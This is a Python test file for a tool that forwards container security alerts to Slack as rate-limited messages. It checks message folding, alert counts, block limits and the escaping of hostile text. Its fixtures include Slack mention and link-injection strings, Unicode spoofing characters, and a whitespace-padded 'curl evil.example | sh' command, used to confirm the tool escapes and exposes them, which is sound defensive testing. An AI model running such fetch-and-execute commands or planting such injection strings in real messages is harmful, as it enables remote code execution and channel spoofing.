"""What slack_drive says without a network: folding, counts, limits, hostile text. usage: messages_test.py SLACK_DRIVE"""

import os
import random
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import events  # noqa: E402
import rules  # noqa: E402

DRIVE = sys.argv[1]
FIVE = [("Cryptomining Process", "Critical"), ("Shell in Container", "Notice"), ("Sensitive File Read", "Warning"),
        ("Outbound Connection", "Error"), ("Package Installed", "Informational")]


def judged(requests, fed):
    """Each message keeps the rules; two are never closer than a second; the counts add up. Returns {rule: count}."""
    sums = {}
    for _, body in requests:
        message, seen = rules.check(body)
        rules.harmless(seen)
        for rule, count in rules.said(message)[0].items():
            sums[rule] = sums.get(rule, 0) + count
    total = sum(rules.said(rules.check(body)[0])[1] for _, body in requests)
    assert total == fed, f"{fed} alerts went in, the messages count {total}"
    times = [ms for ms, _ in requests]
    assert all(b - a >= 1000 for a, b in zip(times, times[1:])), times
    return sums


def flood(name, lines, most):
    lines.sort(key=lambda line: line[0])
    requests, fed = events.dry(DRIVE, 60_000, lines)
    sums = judged(requests, fed)
    true = {}
    for _, value in lines:
        true[value["tiercel"]["rule"]] = true.get(value["tiercel"]["rule"], 0) + 1
    assert len(requests) <= most, f"{name}: {len(requests)} requests at {[ms for ms, _ in requests]}"
    if most <= 12:
        assert sums == true, (sums, true)
    print(f"{name}: {fed} alerts, {len(requests)} requests at {[round(ms / 1000, 1) for ms, _ in requests]} s")


def hit(number, rule, place, program):
    return events.event(number, rule[0], rule[1], proc__name=f"p{program}", proc__exepath=f"/bin/p{program}", proc__cmdline=f"p{program} --n {number}",
                        container__id=f"{place:012x}", container__name=f"c-{place}", output=f"{rule[0]} by p{program}, number {number}")


def five_rules(seed, places, programs, starts=(0, 0, 0, 0, 0)):
    draw = random.Random(seed)
    lines = []
    for number in range(10_000):
        which = draw.randrange(5)
        lines.append((draw.randrange(starts[which], 60_000), hit(number, FIVE[which], draw.randrange(places), draw.randrange(programs))))
    return lines


def test_acceptance():
    """10,000 alerts of 5 rules in 60 s: at most 12 requests, whatever the number of places and the beginning of each rule."""
    flood("one place each", five_rules(1, 1, 1), 12)
    flood("a few places", five_rules(2, 5, 3), 12)
    flood("a place for nearly each alert", five_rules(3, 1_000, 100), 12)
    flood("the rules begin one after the other", five_rules(4, 50, 10, (0, 12_000, 24_000, 36_000, 48_000)), 12)
    flood("in one second", [(ms // 60, value) for ms, value in five_rules(5, 3, 3)], 12)


def test_many_rules():
    """300 rules at once: a message a second at most, the ones without room are counted."""
    lines = [(n * 3, hit(n, (f"Rule {n % 300} of a long list", "Notice"), n % 7, n % 3)) for n in range(6_000)]
    flood("300 rules", lines, 40)


def test_first_at_once_and_one_message_of_repeats():
    lines = [(ms, hit(n, FIVE[0], 1, 1)) for n, ms in enumerate([0, 5_000, 20_000, 59_999, 200_000])]
    requests, fed = events.dry(DRIVE, 60_000, lines)
    judged(requests, fed)
    assert [ms for ms, _ in requests] == [0, 60_000, 200_000], requests
    assert "3 more" in requests[1][1]


def test_unfolded():
    lines = [(0, hit(n, FIVE[0], 1, 1)) for n in range(23)]
    requests, fed = events.dry(DRIVE, 0, lines)
    assert sum(rules.said(rules.check(body)[0])[1] for _, body in requests) == fed == 23
    assert len(requests) == 6, len(requests)  # the first alone, at once
    for number in range(23):
        assert sum(body.count(f"number {number}`") for _, body in requests) >= 1, number


HOSTILE = ["<!channel> <!here> <@U012AB3CD> <https://evil.example|Click>", "``` `x` ```", "&lt;!channel&gt; &amp; <", "*bold* _it_ ~no~ :fire: @here #general",
           "\u202egnp.exe\u202c", "zero\u200bwidth\ufeff", "new\nline\ttab\x1b[31m", "\x00\x7f\x9b", "<", "`", "&" * 3000, "\U0001f600" * 2500, "\u4e2d" * 8000,
           "a" * 8000, "\U000e0041tag", "\u2028x", "https://attack.mitre.org/techniques/T1611/", "<https://attack.mitre.org/techniques/T1611/|here>", "x" * 8000 + "THE END",
           "<!date^0^{date_short}|x>", "", " "]
KEYS = ["rule", "output", "category", "host__name", "proc__name", "proc__cmdline", "proc__exepath", "proc__pname", "proc__pcmdline", "proc__script",
        "user__name", "fd__name", "fd__realpath", "fd__type", "fd__cip", "fd__sip", "fd__l4proto", "fs__first", "fs__second", "container__id", "container__name",
        "container__image_repository", "container__image_tag", "container__type", "k8s__pod", "k8s__ns", "evt__type", "evt__res"]


def hostile_event(draw, number):
    more = {key: draw.choice(HOSTILE) for key in KEYS if key != "rule" and draw.random() < 0.7}
    more["proc__ancestors"] = [draw.choice(HOSTILE) for _ in range(draw.randrange(12))]
    more["mitre__technique"] = [draw.choice(HOSTILE + ["T1611", "T1059.004", "T1611/../..", "T1611|x>"]) for _ in range(draw.randrange(7))]
    for key in ("proc__pid", "fd__sport", "user__uid", "user__loginuid"):
        more[key] = draw.choice([0, -1, 2147483647, "99999999999", draw.choice(HOSTILE), None, [], {}, True])
    return events.event(number, f"Rule {draw.randrange(6)} & <more>", draw.choice(["Critical", "Debug", "Notice"]), **more)


def test_hostile_text():
    """Whatever processes are called: the limits hold, nothing calls anybody, nothing hides."""
    draw = random.Random(7)
    for window_ms in (60_000, 0):
        for _ in range(10):
            requests, fed = events.dry(DRIVE, window_ms, [(ms * 700, hostile_event(draw, ms)) for ms in range(draw.randrange(1, 40))])
            total = 0
            for _, body in requests:
                message, seen = rules.check(body)
                rules.harmless(seen)
                total += rules.said(message)[1]
            assert total == fed
    one = events.escape()
    one["tiercel"]["proc"]["cmdline"] = "sh -c " + " " * 5000 + "; curl evil.example | sh"
    (_, body), = events.dry(DRIVE, 60_000, [(0, one)])[0]
    assert "evil.example | sh" in body and " … " in body, "a padded command hides its end"


def test_the_rules_refuse():
    """The checks themselves: what the service refuses is refused here."""
    section = {"type": "section", "text": {"type": "mrkdwn", "text": "x"}}
    for bad, word in [({"blocks": [section] * 51}, "invalid_blocks"), ({"blocks": [{"type": "section"}]}, "invalid_blocks"), ({}, "no_text"),
                      ({"blocks": [{"type": "header", "text": {"type": "plain_text", "text": "x" * 151}}]}, "invalid_blocks"),
                      ({"blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "x" * 3001}}]}, "invalid_blocks"),
                      ({"blocks": [{"type": "header", "text": {"type": "mrkdwn", "text": "x"}}]}, "invalid_blocks"),
                      ({"blocks": [{"type": "section", "fields": [{"type": "mrkdwn", "text": "x"}] * 11}]}, "invalid_blocks")]:
        try:
            rules.check(rules.json.dumps(bad))
        except rules.Refused as refused:
            assert refused.args[0] == word, refused
        else:
            raise AssertionError(f"taken: {bad}")
    for text in ("<!channel>", "a < b", "&", "`x", "\u202e", "<https://evil.example|x>"):
        try:
            rules.harmless([("mrkdwn", True, text)])
        except ValueError:
            continue
        raise AssertionError(f"harmless? {text!r}")


if __name__ == "__main__":
    for name, function in list(globals().items()):
        if name.startswith("test_"):
            function()
            print("ok", name)
